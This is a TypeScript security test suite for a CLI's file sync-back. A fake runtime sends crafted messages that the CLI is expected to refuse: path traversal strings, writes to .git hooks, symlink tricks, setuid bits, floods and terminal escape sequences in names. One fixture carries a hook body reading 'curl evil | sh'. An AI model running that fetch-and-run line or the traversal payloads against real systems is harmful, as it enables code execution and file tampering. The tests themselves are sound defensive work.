/**
 * SECURITY.md 10–18: hostile sync-back. A fake runtime speaking the real protocol module sends
 * crafted file messages to a real `catty connect` (in-process, tests/helpers/sync-harness.ts);
 * nothing may land outside the local directory, the user's edits survive, and the terminal keeps
 * working. 18 SIGKILLs the built `catty` mid-write.
 */
import { spawn } from 'node:child_process';
import crypto from 'node:crypto';
import fs from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { DEFAULT_MAX_SYNC_FILE_BYTES, FILE_CHUNK_BYTES, type RuntimeMessage } from '../../session-runtime/wire/protocol.js';
import { FakeApi, loginTo } from '../helpers/cli-fake-api.js';
import { cliEnv } from '../helpers/cli.js';
import { CATTY_BIN } from '../helpers/paths.js';
import { tempDir } from '../helpers/temp-dir.js';
import { elapse, waitFor } from '../helpers/wait.js';
import { FakeRuntime, type FakeClient } from '../helpers/fake-runtime.js';
import { SYNC_LABEL, del, listAll, sha, useSyncHarness, write } from '../helpers/sync-harness.js';

const h = useSyncHarness();

describe('SECURITY.md 10: bad paths are refused', () => {
  it.each(['../x', '../../outside/x', '/etc/x', '////tmp/x', 'C:x', 'C:\\x', '..\\..\\x', 'a/\u0000b', 'a/./b', 'a//b', `${'d/'.repeat(70)}x`, `${'x'.repeat(300)}/y`])(
    '10: a sync path %j is refused (nothing written inside or outside)',
    async (rel) => {
      const s = h.setup();
      const result = await h.connectWith(s, [write(rel, 'pwned'), write('ok.txt', 'fine')]);
      expect(result.code).toBe(0);
      expect(listAll(s.local)).toEqual(['ok.txt']);
      expect(listAll(s.outside)).toEqual([]);
      expect(result.stderr).toMatch(/1 refused/);
    },
  );

  it('10: frames with an empty or over-long path are not valid messages and are ignored', async () => {
    const s = h.setup();
    const result = await h.connectWith(s, async (client) => {
      client.ws.send(JSON.stringify({ ...write('x', 'x'), path: '' }));
      client.ws.send(JSON.stringify({ ...write('x', 'x'), path: 'a'.repeat(5000) }));
      client.send(write('ok.txt', 'fine'));
    });
    expect(result.code).toBe(0);
    expect(listAll(s.local)).toEqual(['ok.txt']);
  });
});

describe('SECURITY.md 11: .git is never written', () => {
  it.each(['.git/hooks/pre-commit', '.GIT/config', 'sub/.Git/hooks/post-checkout', '.git'])('11: %j (any case, any depth) is refused: .git is never written', async (rel) => {
    const s = h.setup();
    const result = await h.connectWith(s, [write(rel, '#!/bin/sh\ncurl evil | sh', true), del('.git/config')]);
    expect(result.code).toBe(0);
    expect(listAll(s.local)).toEqual([]);
    expect(result.stderr).toContain('.git is never written');
  });
});

describe('SECURITY.md 12: links are never followed', () => {
  it('12: a write through a symlinked parent directory is refused', async () => {
    const s = h.setup();
    fs.symlinkSync(s.outside, path.join(s.local, 'link'));
    const result = await h.connectWith(s, [write('link/evil.txt', 'pwned'), write('link/deeper/evil.txt', 'pwned')]);
    expect(result.code).toBe(0);
    expect(listAll(s.outside)).toEqual([]);
    expect(result.stderr).toContain('is a symlink');
  });

  it('12: a write or delete through a symlinked target file is refused', async () => {
    const s = h.setup({ 'victim.txt': 'x' });
    fs.writeFileSync(path.join(s.outside, 'victim.txt'), 'precious');
    fs.symlinkSync(path.join(s.outside, 'victim.txt'), path.join(s.local, 'victim.txt'));
    const result = await h.connectWith(s, [write('victim.txt', 'pwned'), del('victim.txt')]);
    expect(result.code).toBe(0);
    expect(fs.readFileSync(path.join(s.outside, 'victim.txt'), 'utf8')).toBe('precious');
    expect(fs.lstatSync(path.join(s.local, 'victim.txt')).isSymbolicLink()).toBe(true);
    // Both refused (the log has each); the summary counts and lists the file once.
    expect(fs.readFileSync(path.join(s.home, 'logs', `${SYNC_LABEL}.log`), 'utf8').match(/refused victim\.txt/g)).toHaveLength(2);
    expect(result.stderr).toContain('1 refused');
    expect(result.stderr.match(/victim\.txt: the local path is a symlink/g)).toHaveLength(1);
  });

  it('12: a symlink squatting on the conflict-copy name is not followed', async () => {
    const s = h.setup({ 'a.txt': 'base' }, { 'a.txt': 'edited' });
    fs.symlinkSync(path.join(s.outside, 'target'), path.join(s.local, `a.catty-conflict-${SYNC_LABEL}.txt`));
    await h.connectWith(s, [write('a.txt', 'remote')]);
    expect(listAll(s.outside)).toEqual([]);
    expect(fs.readFileSync(path.join(s.local, 'a.txt'), 'utf8')).toBe('edited');
  });
});

describe('SECURITY.md 13–14: the conflict rule', () => {
  it('13: a locally edited file is kept; the remote version lands beside it as a conflict copy, and the user is told', async () => {
    const s = h.setup({ 'src/app.ts': 'base', Makefile: 'base' }, { 'src/app.ts': 'my edit', Makefile: 'mine', 'notes.md': 'mine, never uploaded' });
    const result = await h.connectWith(s, [write('src/app.ts', 'remote'), write('Makefile', 'remote make'), write('notes.md', 'remote notes')]);
    expect(result.code).toBe(0);
    expect(fs.readFileSync(path.join(s.local, 'src/app.ts'), 'utf8')).toBe('my edit');
    expect(fs.readFileSync(path.join(s.local, `src/app.catty-conflict-${SYNC_LABEL}.ts`), 'utf8')).toBe('remote');
    expect(fs.readFileSync(path.join(s.local, `Makefile.catty-conflict-${SYNC_LABEL}`), 'utf8')).toBe('remote make');
    // Not in the base yet present locally: also a conflict. (An ignored one such as .env is
    // refused instead: case 45.)
    expect(fs.readFileSync(path.join(s.local, 'notes.md'), 'utf8')).toBe('mine, never uploaded');
    expect(fs.readFileSync(path.join(s.local, `notes.catty-conflict-${SYNC_LABEL}.md`), 'utf8')).toBe('remote notes');
    expect(result.stderr).toContain('3 conflicts');
    expect(result.stderr).toContain('src/app.ts');
  });

  it('14: a remote delete of a locally changed file does not delete it, and it is reported', async () => {
    const s = h.setup({ 'notes.md': 'base' }, { 'notes.md': 'my notes' });
    const result = await h.connectWith(s, [del('notes.md')]);
    expect(fs.readFileSync(path.join(s.local, 'notes.md'), 'utf8')).toBe('my notes');
    expect(result.stderr).toContain('deleted in the session but changed here (kept)');
    expect(result.stderr).toContain('notes.md');
  });
});

describe('SECURITY.md 15: only the exec bit', () => {
  it('15: only the exec bit: never setuid/setgid/sticky; a privileged local file is replaced by a plain one', async () => {
    const s = h.setup({ 'bin/tool': 'old' }, { 'bin/tool': 'old' });
    fs.chmodSync(path.join(s.local, 'bin/tool'), 0o6755);
    await h.connectWith(s, [write('bin/tool', 'new', true), write('plain', 'p', false)]);
    expect(fs.statSync(path.join(s.local, 'bin/tool')).mode & 0o7777).toBe(0o755);
    expect(fs.statSync(path.join(s.local, 'plain')).mode & 0o7777).toBe(0o644);
  });
});

describe('SECURITY.md 16: size caps and floods', () => {
  it('16: a file over the sync cap and a chunked file whose content does not match are refused', async () => {
    const s = h.setup({ 'x.bin': 'old' }, { 'x.bin': 'old' });
    const result = await h.connectWith(s, async (client) => {
      client.send({ type: 'file_change', path: 'huge.bin', action: 'write', executable: false, size: DEFAULT_MAX_SYNC_FILE_BYTES + 1, sha256: sha('x'), chunks: 51, transfer: 1 });
      client.send({ type: 'file_chunk', transfer: 1, index: 0, data: Buffer.alloc(10).toString('base64') });
      client.send({ type: 'file_change', path: 'x.bin', action: 'write', executable: false, size: 3, sha256: sha('abc'), chunks: 1, transfer: 2 });
      client.send({ type: 'file_chunk', transfer: 2, index: 0, data: Buffer.from('xyz').toString('base64') });
      client.send({ type: 'file_skipped', path: 'video.mp4', size: 9e9, reason: 'too_large' });
    });
    expect(result.code).toBe(0);
    expect(fs.existsSync(path.join(s.local, 'huge.bin'))).toBe(false);
    expect(fs.readFileSync(path.join(s.local, 'x.bin'), 'utf8')).toBe('old');
    expect(listAll(s.local)).toEqual(['x.bin']); // no temp files left behind
    expect(result.stderr).toContain('larger than the sync cap');
    expect(result.stderr).toContain('does not match');
    expect(result.stderr).toContain('video.mp4: too large');
  });

  it('16: a flood of 10,000 events stays bounded and keystrokes keep flowing', async () => {
    const s = h.setup();
    let keystrokeSeenAt = 0;
    let floodSentAt = 0;
    const { run, done } = await h.startConnect(s, async (client) => {
      for (let i = 0; i < 10_000; i++) client.send(write(i % 2 === 0 ? 'hot.txt' : `flood/f${Math.floor(i / 2) % 500}.txt`, `v${i}`));
      floodSentAt = Date.now();
      await waitFor(() => client.inputText.includes('ping'), 'keystroke', { timeoutMs: 20_000 });
      keystrokeSeenAt = Date.now();
    });
    // Type while the flood is being applied.
    await waitFor(() => floodSentAt > 0, 'flood sent', { timeoutMs: 20_000 });
    run.stdin.write('ping');
    const result = await done;
    expect(result.code).toBe(0);
    expect(keystrokeSeenAt - floodSentAt).toBeLessThan(5_000);
    expect(fs.readFileSync(path.join(s.local, 'hot.txt'), 'utf8')).toBe('v9998');
    expect(fs.readdirSync(path.join(s.local, 'flood'))).toHaveLength(500);
  }, 120_000);
});

describe('SECURITY.md 17: names are escaped when printed', () => {
  it('17: a hostile name is printed without raw control characters', async () => {
    const s = h.setup({ 'x\u001b[2Jy.txt': 'base' }, {});
    const result = await h.connectWith(s, [write('evil\u001b]0;pwned\u0007.txt', 'x'), del('x\u001b[2Jy.txt'), { type: 'file_skipped', path: 'a\u001b[31mred', size: 1, reason: 'unreadable' }]);
    expect(result.stderr).not.toContain('\u001b');
    expect(result.stderr).toContain('\\x1b');
    expect(fs.readFileSync(path.join(s.home, 'logs', `${SYNC_LABEL}.log`), 'utf8')).not.toContain('\u001b');
  });
});

describe('SECURITY.md 18: killed mid-write', () => {
  const KILL_LABEL = 'sturdy-mole-0006';
  let api: FakeApi;
  let runtime: FakeRuntime;

  beforeAll(async () => {
    runtime = await FakeRuntime.start();
    api = await FakeApi.start({ connectUrl: runtime.url, connectToken: runtime.token });
    api.addSession({ label: KILL_LABEL });
  });
  afterAll(async () => {
    await runtime.close();
    await api.close();
  });

  async function spawnConnected(files: Record<string, Buffer>, script: (client: FakeClient) => Promise<void>) {
    const root = tempDir('kill');
    const home = path.join(root, 'home');
    const local = path.join(root, 'project');
    fs.mkdirSync(local);
    fs.mkdirSync(path.join(home, 'sessions'), { recursive: true });
    fs.writeFileSync(path.join(home, 'sessions', `${KILL_LABEL}.json`), JSON.stringify({ label: KILL_LABEL, id: 'x', apiUrl: api.url, localDir: local, createdAt: new Date().toISOString() }));
    const manifest: Record<string, { sha256: string; executable: boolean }> = {};
    for (const [rel, content] of Object.entries(files)) {
      fs.writeFileSync(path.join(local, rel), content);
      manifest[rel] = { sha256: sha(content), executable: false };
    }
    fs.writeFileSync(path.join(home, 'sessions', `${KILL_LABEL}.manifest.json`), JSON.stringify({ version: 1, files: manifest }));
    loginTo(home, api);
    runtime.onConnect = (client) => {
      client.hello(0);
      void waitFor(() => client.control.some((m) => m.type === 'sync_back'), 'sync_back', { timeoutMs: 20_000 }).then(() => script(client)).catch(() => undefined);
    };
    const child = spawn(process.execPath, [CATTY_BIN, 'connect', KILL_LABEL], { env: cliEnv(home, { CATTY_API_URL: api.url }), stdio: ['pipe', 'ignore', 'ignore'] });
    const exited = new Promise<void>((resolve) => child.on('exit', () => resolve()));
    return { child, local, exited };
  }

  function writeMsg(rel: string, content: Buffer): RuntimeMessage {
    return { type: 'file_change', path: rel, action: 'write', executable: false, size: content.length, sha256: sha(content), content: content.toString('base64') };
  }

  it('18: the CLI SIGKILLed during a chunked transfer leaves the old version', async () => {
    const old = Buffer.from('the old version\n');
    const next = crypto.randomBytes(FILE_CHUNK_BYTES * 6);
    let chunksSent = 0;
    const { child, local, exited } = await spawnConnected({ 'data.bin': old }, async (client) => {
      client.send({ type: 'file_change', path: 'data.bin', action: 'write', executable: false, size: next.length, sha256: sha(next), chunks: 6, transfer: 1 });
      for (let i = 0; i < 3; i++) {
        client.send({ type: 'file_chunk', transfer: 1, index: i, data: next.subarray(i * FILE_CHUNK_BYTES, (i + 1) * FILE_CHUNK_BYTES).toString('base64') });
        chunksSent++;
      }
      // …and the rest never comes: the CLI is killed while the temp file is half written.
    });
    await waitFor(() => chunksSent === 3 && fs.readdirSync(local).some((f) => f.includes('.catty-tmp-')), 'temp file', { timeoutMs: 20_000 });
    child.kill('SIGKILL');
    await exited;
    expect(fs.readFileSync(path.join(local, 'data.bin')).equals(old)).toBe(true);
  });

  it('18: the CLI SIGKILLed during a stream of writes leaves every file old or one complete new version, never truncated', async () => {
    const versions = new Map<string, number>();
    const size = 64 * 1024;
    const make = (i: number) => Buffer.concat([Buffer.from(`version ${String(i).padStart(4, '0')}\n`), Buffer.alloc(size, (i + 251) % 251)]);
    const old = make(-1);
    for (let i = -1; i < 400; i++) versions.set(sha(make(i)), i);
    const names = ['a.bin', 'b.bin', 'c.bin', 'd.bin'];
    let sent = 0;
    const { child, local, exited } = await spawnConnected(Object.fromEntries(names.map((n) => [n, old])), async (client) => {
      for (let i = 0; i < 400; i++) {
        client.send(writeMsg(names[i % names.length] as string, make(i)));
        sent++;
        if (i % 20 === 0) await elapse(5); // on purpose: a stream, so the kill lands mid-way
      }
    });
    // Kill once writes are landing.
    await waitFor(() => sent > 100 && names.some((n) => versions.get(sha(fs.readFileSync(path.join(local, n)))) !== -1), 'writes landing', { timeoutMs: 30_000 });
    child.kill('SIGKILL');
    await exited;
    for (const name of names) {
      const content = fs.readFileSync(path.join(local, name));
      expect(content.length).toBe(old.length);
      expect(versions.has(sha(content))).toBe(true);
    }
  });
});
